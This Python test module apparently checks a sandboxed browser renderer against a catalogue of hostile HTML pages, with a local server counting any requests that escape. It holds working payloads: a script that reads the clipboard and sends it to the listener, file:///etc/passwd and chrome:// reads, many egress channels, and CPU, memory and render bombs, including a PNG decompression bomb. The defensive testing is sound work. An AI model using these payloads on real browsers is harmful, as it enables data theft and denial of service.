"""Pages that attack the browser: a server of this machine, files, time, memory. Tests and a benchmark try them.

`{url}` in a page is the address of the server, `{udp}` the address of a UDP socket.
"""

from __future__ import annotations

import base64
import os
import socket
import struct
import threading
import time
import zlib
from collections.abc import Iterator
from contextlib import contextmanager, suppress
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any, NamedTuple

import pytest

from vlmrl.browser.client import Browser
from vlmrl.browser.server import program_of_browser
from vlmrl.untrusted import CodeRefused

needs_browser = pytest.mark.skipif(
    not program_of_browser() and os.environ.get("VLMRL_TEST_BROWSER") != "required", reason="there is no browser"
)


def _bomb(side: int) -> str:
    """Return a PNG file of side x side black pixels as a data: address; it is small."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    row = b"\0" + bytes(3 * side)
    packer, parts = zlib.compressobj(9), list[bytes]()
    for _ in range(side):
        parts.append(packer.compress(row))
    data = b"".join([*parts, packer.flush()])
    head = struct.pack(">IIBBBBB", side, side, 8, 2, 0, 0, 0)
    file = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", data) + chunk(b"IEND", b"")
    return "data:image/png;base64," + base64.b64encode(file).decode()


SCRIPTS = {
    "fetch": "fetch('{url}fetch',{mode:'no-cors'})",
    "xhr": "x=new XMLHttpRequest();x.open('GET','{url}xhr');x.send()",
    "beacon": "navigator.sendBeacon('{url}beacon','x')",
    "image of a script": "new Image().src='{url}image'",
    "websocket": "new WebSocket('{url}ws'.replace('http','ws'))",
    "event source": "new EventSource('{url}events')",
    "worker": "new Worker(URL.createObjectURL(new Blob([`fetch('{url}worker')`])))",
    "shared worker": "new SharedWorker('{url}shared.js')",
    "service worker": "navigator.serviceWorker.register('/sw.js')",
    "webrtc": "p=new RTCPeerConnection({iceServers:[{urls:'stun:{udp}'}]});p.createDataChannel('x');"
    "p.createOffer().then(o=>p.setLocalDescription(o))",
    "navigation": "location='{url}navigated'",
    "popup": "window.open('{url}popup')",
    "form": "f=document.createElement('form');f.action='{url}form';document.body.append(f);f.submit()",
    "endless script": "while(true);",
    "memory of a script": "a=[];while(true)a.push(new Array(1e6).fill(1))",
    "workers": "for(i=0;i<1000;i++)new Worker(URL.createObjectURL(new Blob(['while(true);'])))",
    "dialogs": "while(true)alert('x')",
    "print": "print()",
    "clipboard": "navigator.clipboard.readText().then(t=>{new Image().src='{url}'+t})",
    "download": "a=document.createElement('a');a.href='data:text/plain,x';a.download='x.txt';a.click()",
    "unload": "onbeforeunload=()=>'stay';location.reload()",
    "timers": "setInterval(()=>{document.body.innerHTML+='x'.repeat(1e5)},0)",
}
PARTS = {
    "picture": "<img src='{url}img'>",
    "picture set": "<img srcset='{url}set 1x, {url}set2 2x'><picture><source srcset='{url}source'><img></picture>",
    "background": "<p style=\"background:url('{url}bg')\">x",
    "cursor and mask": "<p style=\"cursor:url('{url}cur'),auto;mask:url('{url}mask#m');filter:url('{url}f#f')\">x",
    "content": "<style>p::before{content:url('{url}content')}</style><p>x",
    "style sheet": "<link rel=stylesheet href='{url}css'>",
    "import": "<style>@import '{url}import';</style>",
    "font": "<style>@font-face{font-family:f;src:url('{url}font')}</style><p style='font-family:f'>x",
    "frame": "<iframe src='{url}frame'></iframe>",
    "frame of a text": "<iframe srcdoc=\"<img src='{url}srcdoc'>\"></iframe>",
    "frame of data": "<iframe src=\"data:text/html,<img src='{url}data'>\"></iframe>",
    "object": "<object data='{url}object'></object><embed src='{url}embed'>",
    "media": "<video src='{url}video' poster='{url}poster' autoplay></video><audio src='{url}audio' autoplay></audio>",
    "track": "<video autoplay><track src='{url}track' default></video>",
    "refresh": "<meta http-equiv=refresh content='0;url={url}refresh'>",
    "refresh of itself": "<meta http-equiv=refresh content='0'>",
    "prefetch": "<link rel=prefetch href='{url}prefetch'><link rel=preload as=image href='{url}preload'>"
    "<link rel=prerender href='{url}prerender'><link rel=modulepreload href='{url}module'>",
    "connection": "<link rel=preconnect href='{url}'><link rel=dns-prefetch href='{url}'>",
    "icon": "<link rel=icon href='{url}icon'><link rel=manifest href='{url}manifest'>",
    "base": "<base href='{url}'><img src=relative>",
    "vector": "<svg><image href='{url}svg'/><use href='{url}use#x'/></svg>",
    "input": "<input type=image src='{url}input'>",
    "script": "<script src='{url}script'></script><script type=module src='{url}mjs'></script>",
    "rules": "<script type=speculationrules>{\"prefetch\":[{\"urls\":[\"{url}rules\"]}]}</script>",
    "handler": "<img src=x onerror=\"new Image().src='{url}onerror'\"><body onload=\"location='{url}onload'\">",
    "focus": "<input autofocus onfocus=\"location='{url}focus'\">",
    "policy": "<meta http-equiv=Content-Security-Policy content=\"default-src *\"><iframe src='{url}policy'></iframe>",
    "files": "<img src='file:///etc/passwd'><iframe src='file:///etc/passwd'></iframe><link rel=stylesheet href=file:///x>",
    "browser's pages": "<iframe src='chrome://version'></iframe><img src='chrome://favicon'>",
    "animations": "<style>@keyframes a{to{transform:rotate(1turn)}}p{animation:a 1s infinite}</style>" + "<p>x" * 999,
    "marquee": "<marquee scrollamount=50>" + "moves " * 200 + "</marquee>",
    "deep": "<div>" * 40_000 + "x",
    "wide": "<table>" + "<tr>" + "<td>x" * 500 + "</tr>" + "".join("<tr>" + "<td>x" * 90 for _ in range(600)),
    "tall": "<div style='height:99999999px;background:linear-gradient(red,blue)'></div>",
    "blurred": "<div style='filter:" + "blur(900px) " * 60 + ";width:9000px;height:9000px;background:red'></div>" * 20,
    "shadows": "<p style='box-shadow:" + ",".join(["0 0 400px 400px red"] * 900) + "'>x</p>" * 9,
    "turbulence": "<svg width=4000 height=4000><filter id=f><feTurbulence baseFrequency='.9' numOctaves='9999'/>"
    + "</filter>" + "<rect width=4000 height=4000 filter='url(#f)'/>" * 20
    + "</svg>",
    "variables": "<style>:root{--a0:xxxxxxxxxx;"
    + "".join(f"--a{i}:{f'var(--a{i - 1})' * 10};" for i in range(1, 12))
    + "}p::before{content:var(--a11)}</style><p>x",
    "selectors": "<style>" + "".join(f"div:has(p:nth-child({i}n+1) ~ p b) p{{color:red}}" for i in range(2, 300))
    + "</style><div>" + "<p>x</p>" * 8000 + "</div>",
    "grid": "<div style='display:grid;grid-template:repeat(999999,1px)/repeat(999999,1px)'>x</div>",
    "letters": "<p style='font-size:9e9px'>x<p style='letter-spacing:9e9px'>xx<p style='word-spacing:-9e9px'>x x",
}  # fmt: skip


def pages(url: str, udp: str) -> dict[str, str]:
    """Return the name and the code of all attacks."""
    texts = {**{name: f"<body><script>{script}</script>x" for name, script in SCRIPTS.items()}, **PARTS}
    texts["picture bomb"] = f"<img src='{_bomb(9000)}' width=300 height=300>"
    texts["picture bombs"] = "".join(f"<img src='{_bomb(side)}' width=9>" for side in range(4000, 4004))
    return {name: "<!doctype html>" + text.replace("{url}", url).replace("{udp}", udp) for name, text in texts.items()}


class Ears:
    """Server that counts what reaches it."""

    def __init__(self) -> None:
        self.hits = list[str]()
        ears = self

        class Handler(BaseHTTPRequestHandler):
            def handle(self) -> None:
                ears.hits.append("connection")
                super().handle()

            def do_GET(self) -> None:
                ears.hits.append(self.path)
                self.send_response(200)
                self.end_headers()

            def log_message(self, *words: Any) -> None: ...

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        threading.Thread(target=self._server.serve_forever, daemon=True).start()
        self.url = f"http://127.0.0.1:{self._server.server_port}/"
        self._udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self._udp.bind(("127.0.0.1", 0))
        self.udp = f"127.0.0.1:{self._udp.getsockname()[1]}"

    def heard(self) -> list[str]:
        """Return what has reached this machine so far."""
        self._udp.setblocking(False)
        with suppress(BlockingIOError):
            while True:
                self._udp.recv(2048)
                self.hits.append("udp")
        return self.hits

    def close(self) -> None:
        """End the server."""
        self._udp.close()
        self._server.shutdown()
        self._server.server_close()


@contextmanager
def ears() -> Iterator[Ears]:
    """Listen on this machine."""
    listening = Ears()
    try:
        yield listening
    finally:
        listening.close()


class Outcome(NamedTuple):
    """Outcome of an attack.

    Args:
        seconds: its wall time.
        refused: kind of its refusal; "" = it was drawn.
        unharmed: whether a plain page looks as before.
    """

    seconds: float
    refused: str
    unharmed: bool


PLAIN = "<!doctype html><body style='background:#eef'><h1>Plain</h1><p>A page like others.</p>"


def attack(browser: Browser, html: str) -> Outcome:
    """Let the browser draw a page, then a plain one."""
    before, begin, refused = browser.look(PLAIN, 320, 240), time.monotonic(), ""
    try:
        browser.look(html, 320, 240)
    except CodeRefused as error:
        refused = error.kind
    seconds = time.monotonic() - begin
    after = browser.look(PLAIN, 320, 240)
    same = bool((before.pixels == after.pixels).all()) and before.texts == after.texts
    return Outcome(seconds, refused, same)
